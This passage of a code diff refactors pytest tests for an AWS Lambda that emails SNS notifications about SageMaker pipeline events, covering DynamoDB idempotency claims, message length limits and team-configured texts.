+    notifications.dynamodb.errors = {"delete_item": refused("ThrottlingException", "DeleteItem")}
+    notifications.sns.errors = {"publish": UNREACHABLE}
+    with pytest.raises(EndpointConnectionError):
+        notifications.call(SAMPLE.step_changed())
+    assert "could not update the claim, which expires by itself" in capsys.readouterr().out
 
 
-def break_off(office):
-    """Let a call claim the step that failed, and end before it tells of it; return what it claimed."""
-    change = Reader("flats", "dev").read(SAMPLE.step_changed()).change
-    assert claims.Claims(client("dynamodb"), TABLE).take(change, "broken call", office.now)
-    return change
+def test_a_claim_that_cannot_be_completed_does_not_hide_the_message(notifications, capsys):
+    notifications.dynamodb.errors = {"update_item": refused("ThrottlingException", "UpdateItem")}
+    assert notifications.outcome(SAMPLE.step_changed()) == "sent"
+    assert "could not update the claim, which expires by itself" in capsys.readouterr().out
 
 
-def test_what_a_call_broke_off_its_own_retry_tells(office):
-    break_off(office)
-    assert office.tell(SAMPLE.step_changed())["outcome"] == "duplicate", "the retry will tell"
-    assert office.tell(SAMPLE.step_changed(), call="broken call")["outcome"] == "told"
-    assert len(office.mails()) == 1
+@pytest.fixture
+def interrupted(notifications):
+    """The id of a change that a call claimed before it was interrupted."""
+    change = parse_event(SAMPLE.step_changed(), "flats", "dev")
+    assert IdempotencyStore(client("dynamodb"), TABLE).claim(change.id, "interrupted call", notifications.now)
+    return change.id
 
 
-def test_what_no_retry_told_a_later_call_can(office):
-    break_off(office)
-    office.now += claims.CLAIM_SECONDS + 1
-    assert office.tell(SAMPLE.step_changed())["outcome"] == "told"
+@pytest.mark.usefixtures("interrupted")
+def test_the_retry_of_an_interrupted_call_sends_the_message(notifications):
+    assert notifications.outcome(SAMPLE.step_changed()) == "duplicate", "the retry will send the message"
+    assert notifications.outcome(SAMPLE.step_changed(), "interrupted call") == "sent"
+    assert len(notifications.mails()) == 1
 
 
-def test_a_call_that_was_overtaken_does_not_take_the_mark_away(office):
-    change = break_off(office)
-    office.now += claims.CLAIM_SECONDS + 1
-    assert office.tell(SAMPLE.step_changed())["outcome"] == "told"
-    claims.Claims(client("dynamodb"), TABLE).drop(change, "broken call")
-    assert office.tell(SAMPLE.step_changed())["outcome"] == "duplicate"
+def test_once_the_claim_has_expired_any_call_sends_the_message_for_good(notifications, interrupted):
+    notifications.now += CLAIM_SECONDS + 1
+    assert notifications.outcome(SAMPLE.step_changed()) == "sent"
+    IdempotencyStore(client("dynamodb"), TABLE).release(interrupted, "interrupted call")
+    assert notifications.outcome(SAMPLE.step_changed()) == "duplicate", "only the holder may release a claim"
 
 
-def test_a_claim_that_cannot_be_given_back_says_so(office):
-    office.dynamodb.errors = {"delete_item": throttled("DeleteItem")}
+def test_a_failure_to_release_a_claim_is_raised(notifications):
+    notifications.dynamodb.errors = {"delete_item": refused("ThrottlingException", "DeleteItem")}
     with pytest.raises(ClientError, match="ThrottlingException"):
-        claims.Claims(office.dynamodb, TABLE).drop("change", "call")
+        IdempotencyStore(notifications.dynamodb, TABLE).release("change", "call")
 
 
-def test_what_was_told_is_forgotten_after_some_weeks(office):
-    office.tell(SAMPLE.step_changed())
+def test_a_change_is_forgotten_after_some_weeks(notifications):
+    notifications.call(SAMPLE.step_changed())
     (item,) = client("dynamodb").scan(TableName=TABLE)["Items"]
     assert item["id"]["S"].startswith("notified#")
-    assert int(item["expires_at"]["N"]) == office.now + 30 * 86_400
+    assert int(item["expires_at"]["N"]) == notifications.now + 30 * 86_400
 
 
-# What SNS takes.
+# SNS accepts every message.
 
 
 @pytest.mark.parametrize("letter", ["x", "ä", "\N{ABACUS}", "\ud83d", "\n", "\x00"])
-def test_an_oversized_reason_is_cut(office, letter):
-    _, text = office.mail(SAMPLE.step_changed(failureReason=f"begin {letter * 300_000}"))
+def test_an_oversized_reason_is_shortened(notifications, letter):
+    text = notifications.text(SAMPLE.step_changed(failureReason=f"begin {letter * 300_000}"))
     assert "begin" in text
     assert len(text.encode()) < 256 * 1024
-    assert (" [...]" in text) == (letter != "\n")  # blank lines at the end are no text
+    assert (" [...]" in text) == (letter != "\n")  # trailing blank lines are dropped
 
 
-def test_a_subject_is_plain_and_short_whatever_a_step_is_called(office):
-    subject, text = office.mail(SAMPLE.step_changed(step=f"Vorverarbeitung\nfür \N{ABACUS} Älteste {'x' * 200}"))
+def test_a_subject_is_plain_and_short_for_any_name_of_a_step(notifications):
+    subject, text = notifications.mail(SAMPLE.step_changed(step=f"Vorverarbeitung\nfür \N{ABACUS} Älteste {'x' * 200}"))
     assert subject.startswith("flats dev: the step Vorverarbeitung fur Alteste xxx")
     assert subject.endswith(" [...]")
     assert len(subject) == 99
     assert "für \N{ABACUS} Älteste" in text
 
 
-@given(st.text(), st.text(), st.sampled_from(sorted(TELLING)))
-def test_whatever_an_event_says_sns_takes_the_message(words, reason, which):
-    event = json.loads(json.dumps(TELLING[which]))
-    event["detail"] |= {"failureReason": reason, "reason": reason, "ApprovalDescription": reason, "stepName": words}
-    told = Reader("flats", "dev").read(event)
-    message = Writer("dev", Lookup(Registry)).write(told)
+@given(st.text(), st.text(), st.sampled_from(sorted(EVENTS)))
+def test_sns_accepts_the_message_about_any_event(own_text, reason, name):
+    event = json.loads(json.dumps(EVENTS[name]))
+    event["detail"] |= {"failureReason": reason, "reason": reason, "ApprovalDescription": reason, "stepName": own_text}
+    change = parse_event(event, "flats", "dev")
+    message = Writer("dev", Lookup(SageMaker)).write(change)
     subject = mail.subject(message, "flats", "dev")
     assert subject.isascii()
     assert subject.isprintable()
     assert 0 < len(subject) < 100
-    assert len(mail.text(message, told, "flats", "dev", words).encode()) < 256 * 1024
+    assert len(mail.text(message, change, "flats", "dev", own_text).encode()) < 256 * 1024
 
 
-# The team's own words.
+# The team's own texts.
 
 
 @pytest.mark.parametrize(
-    ("entry", "event", "fits"),
+    ("entry", "event", "matches"),
     [
         ({"pipeline": "training", "step": "Train", "status": "Failed"}, SAMPLE.step_changed(), True),
         ({"pipeline": "training"}, SAMPLE.step_changed(), True),
@@ -633,28 +614,27 @@ def test_whatever_an_event_says_sns_takes_the_message(words, reason, which):
         ({}, SAMPLE.package_changed(), False),
     ],
 )
-def test_own_words_stand_in_the_messages_that_they_are_meant_for(office, entry, event, fits):
-    office.texts = [entry | {"text": "Frag Ada \N{BIRD}: hers."}, {"text": "anything else"}]
-    _, text = office.mail(event)
-    assert ("Frag Ada \N{BIRD}: hers." in text) == fits
+def test_a_text_of_the_team_appears_in_the_messages_that_it_matches(notifications, entry, event, matches):
+    notifications.texts = [entry | {"text": "Frag Ada \N{BIRD}: hers."}, {"text": "anything else"}]
+    assert ("Frag Ada \N{BIRD}: hers." in notifications.text(event)) == matches
 
 
-def test_the_first_words_that_fit_count(office):
-    office.texts = [{"pipeline": "training", "text": "first"}, {"step": "Train", "text": "second"}]
-    _, text = office.mail(SAMPLE.step_changed())
+def test_the_first_matching_text_is_used(notifications):
+    notifications.texts = [{"pipeline": "training", "text": "first"}, {"step": "Train", "text": "second"}]
+    text = notifications.text(SAMPLE.step_changed())
     assert "\nfirst\n" in text
     assert "second" not in text
 
 
-def test_the_example_in_the_configuration_is_one_that_counts(office):
+def test_the_example_in_the_configuration_works(notifications):
     config = (ROOT / "config" / "events.yaml").read_text("utf-8")
     example = re.search(r"^ *# - (\{pipeline: .*\})$", config, re.MULTILINE)
-    office.texts = [yaml.safe_load(example[1])]
-    _, text = office.mail(SAMPLE.step_changed("inference", "Preprocess"))
+    notifications.texts = [yaml.safe_load(example[1])]
+    text = notifications.text(SAMPLE.step_changed("inference", "Preprocess"))
     assert "\nAsk Ada: the files come from her system.\n" in text
 
 
-def test_aws_lambda_hands_over_what_terraform_wrote_and_logs_one_line(office, monkeypatch, capsys):
+def test_the_handler_reads_the_variables_of_terraform_and_logs_its_answer(notifications, monkeypatch, capsys):
     texts = [{"pipeline": "training", "step": "Train", "status": "Failed", "text": "Ask Ada."}]
     variables = {"PROJECT": "flats", "ENVIRONMENT": "dev", "TOPIC_ARN": TOPIC, "TABLE": TABLE}
     for name, value in {**variables, "TEXTS": json.dumps(texts)}.items():
@@ -662,7 +642,9 @@ def test_aws_lambda_hands_over_what_terraform_wrote_and_logs_one_line(office, mo
     module.client.cache_clear()
     answer = handler(SAMPLE.step_changed(), SimpleNamespace(aws_request_id="call"))
     module.client.cache_clear()
-    assert json.loads(capsys.readouterr().out) == answer
+    assert gc.isenabled()
+    (line,) = capsys.readouterr().out.splitlines()
+    assert json.loads(line) == answer
     assert answer["subject"] == "flats dev: the step Train of training failed"
-    ((_, text),) = office.mails()
+    ((_, text),) = notifications.mails()
     assert "\nAsk Ada.\n" in text
